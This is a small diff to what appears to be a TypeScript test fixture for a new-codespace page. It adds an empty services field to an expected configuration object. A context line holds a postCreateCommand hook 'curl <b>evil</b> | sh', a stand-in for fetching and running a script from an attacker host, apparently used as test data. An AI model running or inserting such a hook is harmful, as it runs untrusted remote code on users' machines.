@@ -10,6 +10,7 @@ import { NewCodespacePage } from '../NewCodespacePage.tsx'
 export const wants = {
   image: 'debian',
   build: null,
+  services: [],
   remoteUser: null,
   commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
   repositoryPermission: 'write' as const,
